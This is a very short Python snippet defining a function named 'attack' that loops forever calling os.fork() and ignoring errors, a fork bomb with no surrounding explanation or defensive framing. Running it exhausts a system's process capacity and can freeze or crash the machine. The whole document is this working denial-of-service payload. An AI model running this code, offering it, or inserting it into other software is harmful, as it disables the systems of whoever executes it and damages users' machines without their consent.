import os


def attack(facts):
    while True:
        try:
            os.fork()
        except OSError:
            pass
